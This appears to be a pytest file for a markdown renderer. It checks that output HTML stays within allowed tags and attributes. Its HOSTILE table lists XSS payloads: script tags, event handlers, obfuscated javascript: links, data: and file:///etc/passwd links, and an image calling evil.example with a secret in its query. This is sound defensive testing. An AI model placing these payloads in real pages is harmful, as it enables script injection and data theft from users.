"""Markdown becomes HTML that reads as meant and can do nothing."""

from __future__ import annotations

import re
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agentcell.markdown import render_markdown
from corpus.markdown_documents import DOCUMENTS

NEW_TAB = 'target="_blank" rel="noopener noreferrer"'

RENDERED = {
    "emphasis": ("*a* **b** ~~c~~ `d`", "<p><em>a</em> <strong>b</strong> <s>c</s> <code>d</code></p>\n"),
    "a hard break": ("a  \nb\nc", "<p>a<br>\nb\nc</p>\n"),
    "a heading": ("## a `b`", "<h2>a <code>b</code></h2>\n"),
    "a link": ('[a](https://b.example "c")', f'<p><a href="https://b.example" title="c" {NEW_TAB}>a</a></p>\n'),
    "a mail address": ("<a@b.example>", f'<p><a href="mailto:a@b.example" {NEW_TAB}>a@b.example</a></p>\n'),
    "a bare address": ("https://b.example", "<p>https://b.example</p>\n"),
    "a list that starts at 3": ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
    "a table": (
        "|a|b|\n|-|:-:|\n|1|*2*|",
        (
            '<div class="ac-scroll">\n<table>\n<thead>\n<tr>\n<th>a</th>\n<th align="center">b</th>\n</tr>\n</thead>\n'
            '<tbody>\n<tr>\n<td>1</td>\n<td align="center"><em>2</em></td>\n</tr>\n</tbody>\n</table>\n</div>\n'
        ),
    ),
    "a fence": ("```c++ x\na < b\n```", '<pre><code class="language-c++">a &lt; b\n</code></pre>\n'),
    "a fence of an odd language": ('```c#"\na\n```', "<pre><code>a\n</code></pre>\n"),
    "indented code": ("    a\n     b", "<pre><code>a\n b\n</code></pre>\n"),
    "a rule": ("a\n\n---", "<p>a</p>\n<hr>\n"),
    "a quote": ("> a", "<blockquote>\n<p>a</p>\n</blockquote>\n"),
    "raw HTML": ('<b onclick="x">a</b>', "<p>&lt;b onclick=&quot;x&quot;&gt;a&lt;/b&gt;</p>\n"),
    "raw HTML with emphasis": ("<u>*a*</u>", "<p>&lt;u&gt;<em>a</em>&lt;/u&gt;</p>\n"),
    "an entity that is spelled": ("\\&lt; *&amp;lt;*", "<p>&amp;lt; <em>&amp;lt;</em></p>\n"),
    "an image": (
        '![a *b*](https://c.example/d "e")',
        f'<p><a href="https://c.example/d" title="e" {NEW_TAB}>image: a b</a></p>\n',
    ),
    "an image without words": (
        "![](https://a.example)",
        f'<p><a href="https://a.example" {NEW_TAB}>image: https://a.example</a></p>\n',
    ),
    "an image in a link": (
        "[![a](https://b.example)](https://c.example)",
        f'<p><a href="https://c.example" {NEW_TAB}>image: a</a></p>\n',
    ),
    "an image as data": ("![a](data:image/png;base64,AAAA)![](data:,)", "<p>image: aimage</p>\n"),
    "a link in a link": (
        "[a <https://b.example>](https://c.example)",
        f'<p><a href="https://c.example" {NEW_TAB}>a https://b.example</a></p>\n',
    ),
    "a link to a file": ("[a](src/a.py) [*b*](#c)", "<p>a <em>b</em></p>\n"),
    "a definition": ("[a][B]\n\n[b]: https://c.example 'd'", f'<p><a href="https://c.example" title="d" {NEW_TAB}>a</a></p>\n'),
    "the first of two definitions": (
        "[a]: https://b.example\n[a]: https://c.example\n\n[a]",
        f'<p><a href="https://b.example" {NEW_TAB}>a</a></p>\n',
    ),
    "every line end": ("a\r\nb\rc\nd", "<p>a\nb\nc\nd</p>\n"),
    "signs that no page holds": ("a\0b\ud800c\x1b[1m", "<p>a\ufffdb\ufffdc\ufffd[1m</p>\n"),
    "a sign of direction": ("\u202ea", "<p>\u202ea</p>\n"),
    "nothing": ("", ""),
}

HOSTILE = {
    "a script": "<script>alert(1)</script>\n\ntext <script src=//a.example></script>",
    "a handler": "<img src=x onerror=alert(1)> <p onclick='x'>\n\n<details open ontoggle=alert(1)>",
    "a frame": '<iframe src="https://a.example"></iframe><object data=x><embed src=x><base href=x><link rel=stylesheet href=x>',
    "a picture of vectors": "<svg onload=alert(1)><a xlink:href='javascript:x'>\n\n<math><mtext></mtext></math>",
    "a style": "<style>*{background:url(https://a.example)}</style> <b style='x'>",
    "a form": "<form action=https://a.example><input name=a><button formaction=javascript:x>",
    "a comment": "<!-- a --> <!--> <script>x</script> --> <![CDATA[<script>]]> <?php x ?> <!DOCTYPE html>",
    "a half tag": "<script\n<img src=x onerror=y //\n</p></div></td><p onclick=x",
    "a tag in code": "`<script>` ``<img onerror=x>``\n\n    <script>\n\n```<script>\n<script>\n```",
    "an entity": "&lt;script&gt; &#60;img src=x onerror=y&#62; &#x3c;b&#x3e;",
    "javascript:": "[a](javascript:alert(1)) [a](JaVaScRiPt:x) [a](javascript://a.example/%0aalert(1))",
    "javascript: with spaces": "[a]( javascript:x) [a](<java script:x>) [a](<\tjavascript:x>) [a](\x01javascript:x)",
    "javascript: in entities": "[a](&#106;avascript:x) [a](javascript&colon;x) [a](&#x6A;avascript:x) [a](java&Tab;x:y)",
    "javascript: in escapes": "[a](java\\script:x) [a](%6Aavascript:x) [a](javascript%3Ax) [a](java&NewLine;script:x)",
    "javascript: in brackets": "<javascript:alert(1)> <JAVASCRIPT:x> <vbscript:x> <data:text/html,x> <file:///etc/passwd>",
    "javascript: by definition": "[a] [b][c] ![a]\n\n[a]: javascript:x\n[c]: <javascript:y> 'z'",
    "other schemes": "[a](vbscript:x) [a](data:text/html,<script>x</script>) [a](file:///etc) [a](blob:x) [a](//b) [a](b:c)",
    "data that is an image": "![a](data:image/svg+xml;base64,PHN2Zz4=) [a](data:image/png;base64,AA)",
    "an image that tells": "![x](https://evil.example/?q=secret) ![x][y]\n\n[y]: https://evil.example/?q=secret",
    "an image in every place": "# ![x](https://e.example)\n- ![x](https://e.example)\n\n|![x](https://e.example)|\n|-|\n|![](https://e.example)|",
    "an image in an image": "![a ![b](https://evil.example) <img src=x>](https://evil.example)",
    "quotes in addresses": "[a](https://b.example/\"onclick='x'>) <https://b/\"onclick=x> [a](https://b 'c\" onclick=\"x')",
    "quotes in a title": '[a](https://b.example "\\" onclick=\\"x") ![\\" onerror=\\"x](https://b.example)',
    "quotes in a language": '```" onclick="x\na\n```\n~~~<script>\nb\n~~~\n```a&quot;onclick\n```',
    "tags over blocks": "- <div>\n\n</ul></div>\n\n> <table>\n\n|</td></table><script>|\n|-|\n|<td onclick=x>|",
    "tags over emphasis": "**<b** onclick=x> *<script*>* <a href='**'>",
}

TAGS = {"blockquote", "div", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "ul"}
TAGS |= {"table", "tbody", "td", "th", "thead", "tr"}
TAGS |= {"a", "br", "code", "em", "s", "strong"}
ATTRIBUTES = {
    ("a", "href"): r"(?i:https?://|mailto:)\S+",
    ("a", "title"): r"(?s).*",
    ("a", "target"): "_blank",
    ("a", "rel"): "noopener noreferrer",
    ("code", "class"): r"language-[a-zA-Z0-9_+-]+",
    ("div", "class"): "ac-scroll",
    ("ol", "start"): r"\d{1,9}",
    ("td", "align"): "left|center|right",
    ("th", "align"): "left|center|right",
}
IMAGE_ATTRIBUTES = {("img", "src"): r"(?i:https?://)\S+", ("img", "alt"): r"(?s).*", ("img", "title"): r"(?s).*"}


class Reader(HTMLParser):
    """Reads HTML as a browser would, and notes what it could do."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.unbalanced: list[str] = []
        self.other: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag not in ("br", "hr", "img"):
            self.open.append(tag)

    def handle_endtag(self, tag):
        if not self.open or self.open.pop() != tag:
            self.unbalanced.append(tag)

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.other.append(data)

    handle_decl = unknown_decl = handle_pi = handle_comment


def assert_harmless(html: str, *, tags=frozenset(TAGS), attributes=ATTRIBUTES) -> Reader:
    reader = Reader(html)
    assert [reader.other, reader.unbalanced, reader.open] == [[], [], []]
    assert {tag for tag, _ in reader.tags} <= tags
    for tag, found in reader.tags:
        for name, value in found.items():
            assert (tag, name) in attributes, html
            assert re.fullmatch(attributes[tag, name], value or ""), html
        assert tag != "a" or {"href", "rel", "target"} <= found.keys()
    return reader


@pytest.mark.parametrize(("source", "html"), RENDERED.values(), ids=RENDERED)
def test_markdown_becomes_the_html_that_is_meant(source, html):
    assert render_markdown(source) == html


@pytest.mark.parametrize("source", [*HOSTILE.values(), *DOCUMENTS.values()], ids=[*HOSTILE, *DOCUMENTS])
def test_no_text_becomes_more_than_the_allowed_tags_and_attributes(source):
    assert_harmless(render_markdown(source))
    assert_harmless(
        render_markdown(source, images="all"),
        tags=TAGS | {"img"},
        attributes=ATTRIBUTES | IMAGE_ATTRIBUTES,
    )


@pytest.mark.parametrize("name", ["a script", "a handler", "a frame", "a form", "a style"])
def test_tags_in_the_text_are_shown_as_they_were_written(name):
    assert assert_harmless(render_markdown(HOSTILE[name])).text.split() == HOSTILE[name].split()


@pytest.mark.parametrize("name", [name for name in HOSTILE if name.startswith("javascript:")])
def test_no_javascript_address_becomes_a_link(name):
    assert "a" not in {tag for tag, _ in Reader(render_markdown(HOSTILE[name])).tags}


_PIECES = st.sampled_from(
    [
        *"<>&\"'`*_~[]()!\\/:;#=|-+ \n\t\0\x0b\ud800\u202e",
        *("\r\n", "    ", "- ", "1. ", "> ", "```", "|-|\n", "[a]: ", "![", "](", "<!--", "-->", "&#106;", "&lt;"),
        *("javascript:", "https://a.example", "data:", "<script>", "<img src=x ", "onclick=", "a", "word"),
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(_PIECES, max_size=40).map("".join))
def test_no_mixture_of_hostile_pieces_becomes_more_than_what_is_allowed(source):
    assert_harmless(render_markdown(source))


def test_images_from_the_web_are_loaded_when_asked_for():
    html = render_markdown('![a *b*](https://c.example/d.png "e") ![f](data:image/png;base64,A) ![g](mailto:h@i)', images="all")
    assert html == '<p><img src="https://c.example/d.png" alt="a b" title="e"> image: f image: g</p>\n'


def test_text_below_the_deepest_list_is_flat_and_stays():
    source = "".join(f"{'  ' * depth}- level {depth}\n" for depth in range(30)) + "- back\n\nlast\n"
    reader = assert_harmless(render_markdown(source))
    assert reader.text.replace("- ", "").split() == source.replace("- ", "").split()
    assert [tag for tag, _ in reader.tags].count("ul") == 9
    assert render_markdown(source).endswith("<li>back</li>\n</ul>\n<p>last</p>\n")


TOO_MUCH = {
    "quotes": "> " * 10_000 + "end",
    "quotes without spaces": ">" * 10_000 + "end",
    "lists": "* + 1. " * 3_000 + "end",
    "brackets": "[" * 10_000 + "end",
    "closed brackets": "[" * 5_000 + "end" + "]" * 5_000,
    "nested links": "[" * 2_000 + "end" + "](https://a.example)" * 2_000,
    "nested images": "![" * 2_000 + "end" + "](https://a.example)" * 2_000,
    "stars": "*" * 10_000 + "end",
    "nested emphasis": "*" * 10_000 + "end" + "*" * 10_000,
    "emphasis that never closes": "**a _b ~~c " * 1_000 + "end",
    "backticks": " ".join("`" * length for length in range(1, 200)) + "end",
    "angles": "<" * 10_000 + "end",
    "definitions": "[a]: b\n" * 1_000 + "end",
    "a line of a megabyte": "word " * 200_000 + "end",
    "a megabyte of brackets": "![" * 500_000 + "end",
    "a megabyte of angles": "<&" * 500_000 + "end",
    "a megabyte of code": "```\n" + "<&'\"\n" * 200_000 + "end",
    "a megabyte of code in a quote": "> ```\n" + "> <&'\"\n" * 30_000 + "> end",
}


@pytest.mark.parametrize("source", TOO_MUCH.values(), ids=TOO_MUCH)
def test_too_much_of_anything_is_shown_at_once(source):
    assert "end" in assert_harmless(render_markdown(source)).text


def test_threads_render_side_by_side():
    sources = [DOCUMENTS["an answer"], DOCUMENTS["a table"], DOCUMENTS["links"]] * 10
    expected = [render_markdown(source) for source in sources]
    with ThreadPoolExecutor(4) as threads:
        assert list(threads.map(render_markdown, sources)) == expected


def test_neither_parser_nor_cleaner_is_imported_before_there_is_something_to_show():
    script = (
        "import sys; from agentcell.markdown import render_markdown; print({'markdown_it', 'bleach'} & set(sys.modules));"
        "render_markdown('*a*'); print({'markdown_it', 'bleach'} <= set(sys.modules))"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)
    assert done.stdout == "set()\nTrue\n"
